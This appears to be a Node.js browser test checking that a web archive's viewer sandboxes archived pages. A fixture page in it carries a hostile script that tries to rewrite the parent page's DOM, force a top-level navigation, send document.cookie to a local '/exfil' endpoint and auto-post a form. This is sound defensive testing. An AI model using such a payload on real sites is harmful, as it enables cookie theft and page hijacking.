// Browser test of `census serve` (issue 13): two real censuses of the simulated web a day
// apart (simweb --day 0 / --day 1: the forged_date site moves one list item's date), plus a
// hostile site of this test's own; report.html written with --evidence-base; Debian's
// headless Chromium, scripts on, opens the forged date's evidence link from report.html and
// sees the archived page and the moved date, then opens the hostile page in the archive and
// checks that none of its attempts (reading the UI's DOM, posting a form to the UI, a meta
// refresh and a top navigation out, a request out) got anywhere.
//
//   CENSUS_BIN=build/cmd/census SIMWEB_BIN=build/simweb/simweb OUT_DIR=build/tests/browser \
//     node --test serve.test.mjs
//
// Leaves OUT_DIR/serve/ (the runs, their reports, serve-view.png).

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, execFile } from 'node:child_process';
import { promisify } from 'node:util';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { launchChromium } from './chromium.mjs';

const censusBin = process.env.CENSUS_BIN;
const simwebBin = process.env.SIMWEB_BIN;
const outDir = path.join(process.env.OUT_DIR || fs.mkdtempSync(path.join(os.tmpdir(), 'census-serve-')),
                         'serve');
const children = [];
let browser;
let hostile;  // the hostile site's server
const hostileHits = [];
let servePort;
let truth;       // day 1's
let forged;      // truth's forged_date content finding
let forgedSite;  // its site
const requests = [];  // { method, url } of everything the browser asked for

const hostileHost = 'hostile.example';
function hostilePage(port) {
  const out = `http://127.0.0.1:${port}`;
  return `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>恶意页面 hostile</title>
<meta http-equiv="refresh" content="0;url=${out}/escaped-refresh">
</head><body>
<h1 id="hostile">恶意页面 hostile page</h1>
<ul><li><span>2020-01-01</span> <a href="/news/1.html">旧闻 old news</a></li></ul>
<script>
  document.title = 'SCRIPT RAN';
  try { parent.document.body.innerHTML = '<h1 id="pwned">PWNED</h1>'; } catch (e) {}
  try { top.location = '${out}/escaped-top'; } catch (e) {}
  try { new Image().src = '${out}/exfil?c=' + encodeURIComponent(document.cookie); } catch (e) {}
</script>
<form id="post" method="post" action="/"><input name="x" value="1"></form>
<script>document.getElementById('post').submit();</script>
</body></html>`;
}

// Spawns `bin args`, waits for a stdout line matching `re`, returns [child, match].
function startAndWait(bin, args, re, logName) {
  return new Promise((resolve, reject) => {
    const child = spawn(bin, args, { stdio: ['ignore', 'pipe', 'pipe'] });
    children.push(child);
    let out = '';
    const log = fs.createWriteStream(path.join(outDir, `${logName}.err`));
    child.stderr.pipe(log);
    child.stdout.on('data', (chunk) => {
      out += chunk;
      const m = out.match(re);
      if (m) resolve([child, m]);
    });
    child.on('exit', (code) => reject(new Error(`${bin} exited ${code} before listening: ${out}`)));
  });
}

async function stop(child) {
  if (child.exitCode !== null) return;
  const exited = new Promise((resolve) => child.once('exit', resolve));
  child.kill('SIGTERM');
  await exited;
}

async function freePort() {
  const server = net.createServer();
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address();
  await new Promise((resolve) => server.close(resolve));
  return port;
}

// One census of the forged_date site and the hostile site on simweb day `day`.
async function census(day, hostilePort, extra) {
  const truthDir = path.join(outDir, `truth-${day}`);
  fs.mkdirSync(truthDir, { recursive: true });
  const [simweb] = await startAndWait(
    simwebBin, ['serve', '--truth-dir', truthDir, '--seed', '1', '--sites', '18', '--as-of',
                '2026-11-20', '--probes', '2', '--day', String(day)],
    /listening 127\.0\.0\.1:(\d+)\n/, `simweb-${day}`);
  try {
    const dayTruth = JSON.parse(fs.readFileSync(path.join(truthDir, 'truth.json'), 'utf8'));
    const site = dayTruth.sites.find((s) => s.scenario === 'forged_date');
    const lines = fs.readFileSync(path.join(truthDir, 'sites.csv'), 'utf8').split('\n');
    const csv = [lines[0], lines.find((l) => l.startsWith(`${site.site_id},`)),
                 `hostile,恶意网站,http://${hostileHost}/,test,000000,county,portal`, ''].join('\n');
    const sitesFile = path.join(outDir, 'sites.csv');
    fs.writeFileSync(sitesFile, csv);
    const args = ['run', '--sites', sitesFile, '--out', path.join(outDir, `day${day}`),
                  '--data', path.join(outDir, 'data'), '--as-of', dayTruth.as_of,
                  '--probes', '2', '--probe-interval', '50ms', '--probe-timeout', '1s',
                  '--page-timeout', '3s', '--host-delay', '5ms', '--workers', '2', '--render', 'off',
                  '--connect-to', `${hostileHost}:80:127.0.0.1:${hostilePort}`];
    for (const rule of dayTruth.connect_to) args.push('--connect-to', rule);
    args.push(...extra);
    // Asynchronous: the hostile site is served by this process's event loop meanwhile.
    await promisify(execFile)(censusBin, args, { maxBuffer: 64 << 20 });
    return dayTruth;
  } finally {
    await stop(simweb);
  }
}

before(async () => {
  assert.ok(censusBin, 'set CENSUS_BIN to the census binary');
  assert.ok(simwebBin, 'set SIMWEB_BIN to the simweb binary');
  fs.rmSync(outDir, { recursive: true, force: true });
  fs.mkdirSync(outDir, { recursive: true });

  hostile = http.createServer((req, res) => {
    hostileHits.push(req.url);
    if (req.url === '/' || req.url === '/index.html') {
      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      res.end(hostilePage(hostile.address().port));
    } else {
      res.writeHead(404, { 'Content-Type': 'text/plain' });
      res.end('not here\n');
    }
  });
  await new Promise((resolve) => hostile.listen(0, '127.0.0.1', resolve));
  const hostilePort = hostile.address().port;

  servePort = await freePort();
  await census(0, hostilePort, []);
  truth = await census(1, hostilePort, ['--evidence-base', `http://127.0.0.1:${servePort}`]);
  forgedSite = truth.sites.find((s) => s.scenario === 'forged_date');
  forged = forgedSite.content.find((c) => c.kind === 'forged_date');
  assert.ok(forged, 'day 1 has a forged date');

  await startAndWait(censusBin, ['serve', '--data', path.join(outDir, 'data'), '--listen',
                                 `127.0.0.1:${servePort}`],
                     /serving http:\/\/127\.0\.0\.1:\d+\/\n/, 'serve');
  browser = await launchChromium({ javaScriptEnabled: true });
  browser.context.on('request', (r) => requests.push({ method: r.method(), url: r.url() }));
});

after(async () => {
  if (browser) await browser.close();
  for (const child of children) await stop(child);
  if (hostile) await new Promise((resolve) => hostile.close(resolve));
});

test("report.html's evidence link opens the archived page and the moved date", async () => {
  const { page } = browser;
  await page.goto(pathToFileURL(path.join(outDir, 'day1', 'report.html')).href);
  const row = page.locator('table.evidence tr', { hasText: 'forged_date' }).first();
  const link = row.locator('a.evidence-link');
  const href = await link.getAttribute('href');
  assert.match(href, new RegExp(`^http://127\\.0\\.0\\.1:${servePort}/evidence/${forgedSite.site_id}/[0-9a-f]{64}\\?at=\\d{14}$`));
  await Promise.all([page.waitForURL(/\/view\/\d{14}\//), link.click()]);
  assert.ok(page.url().endsWith(`/${forged.found_on}`), page.url());

  // The moved date, as the UI shows it.
  const moved = page.locator('#changes tr.date-moved');
  assert.equal(await moved.count(), 1);
  const cells = (await moved.locator('td').allInnerTexts()).map((t) => t.trim());
  assert.equal(cells[0], '日期变动 date moved');
  assert.equal(cells[2], forged.date_before);
  assert.equal(cells[3], forged.date_after);
  assert.equal(await moved.locator('a').getAttribute('href'),
               `/view/${page.url().match(/\/view\/(\d{14})\//)[1]}/${forged.url}`);

  // The archived page in its sandboxed frame: the column page as fetched on day 1.
  const iframe = page.locator('iframe.archived');
  assert.equal(await iframe.getAttribute('sandbox'), '');
  const frame = page.frames().find((f) => f.url().includes('/web/'));
  assert.ok(frame, 'the archived page is framed');
  assert.match(frame.url(), new RegExp(`/web/\\d{14}/${forged.found_on.replace(/[.?]/g, '\\$&')}$`));
  const column = forgedSite.columns.find((c) => forged.found_on.endsWith(c.url.replace(/^https?:\/\/[^/]+/, '')));
  const text = await frame.locator('body').innerText();
  if (column) assert.ok(text.includes(column.name), `the frame shows ${column.name}`);
  // Its links point into the archive, the moved item's too.
  assert.ok(await frame.locator(`a[href$="/${forged.url}"]`).count() >= 1,
            'the moved item is linked into the archive');
  assert.match(await frame.locator(`a[href$="/${forged.url}"]`).first().getAttribute('href'),
               /^\/web\/\d{14}\/http:/);
  await page.screenshot({ path: path.join(outDir, 'serve-view.png'), fullPage: true });
});

test("an archived page's scripts, form, meta refresh and navigation get nowhere", async () => {
  const { page } = browser;
  // The control: opened from its own server, the page's script does run and leaves.
  hostileHits.length = 0;
  await page.goto(`http://127.0.0.1:${hostile.address().port}/`);
  await page.waitForTimeout(1500);
  assert.ok(hostileHits.some((u) => u.startsWith('/escaped') || u.startsWith('/exfil')),
            `the hostile page acts when not archived: ${hostileHits}`);

  // In the archive: the view page of the hostile homepage, from the site's versions.
  hostileHits.length = 0;
  requests.length = 0;
  const runs = await (await fetch(`http://127.0.0.1:${servePort}/`)).text();
  const runIds = [...runs.matchAll(/<a href="\/run\/([^"]+)">/g)].map((m) => m[1]);
  const versions = `http://127.0.0.1:${servePort}/page/hostile?url=${encodeURIComponent(`http://${hostileHost}/`)}`;
  await page.goto(versions);
  assert.ok(runIds.length === 2);
  const view = page.locator('#versions a', { hasText: 'view' }).last();
  await Promise.all([page.waitForURL(/\/view\//), view.click()]);
  const viewUrl = page.url();
  await page.waitForTimeout(2000);  // the meta refresh is 0 s; scripts would have run by now

  assert.equal(page.url(), viewUrl, 'the UI page was not navigated away');
  assert.equal(await page.locator('#pwned').count(), 0, "the UI's DOM is untouched");
  assert.match(await page.locator('h1').first().innerText(), new RegExp(`^http://${hostileHost}/$`));
  const frame = page.frames().find((f) => f.url().includes('/web/'));
  assert.ok(frame, 'the archived page is framed');
  assert.match(frame.url(), new RegExp(`/web/\\d{14}/http://${hostileHost}/$`),
               'the frame did not refresh away');
  assert.equal(await frame.locator('#hostile').count(), 1, 'the archived page is shown');
  assert.deepEqual(hostileHits, [], 'nothing reached out of the archive');
  assert.deepEqual(requests.filter((r) => r.method !== 'GET'), [], 'no form was posted');

  // Opened top-level at its archive address, the page is sandboxed all the same.
  const archived = frame.url();
  await page.goto(archived);
  await page.waitForTimeout(1500);
  assert.equal(page.url(), archived);
  assert.equal(await page.title(), '恶意页面 hostile', 'its script did not run');
  assert.deepEqual(hostileHits, []);
  assert.deepEqual(requests.filter((r) => r.method !== 'GET'), []);
});
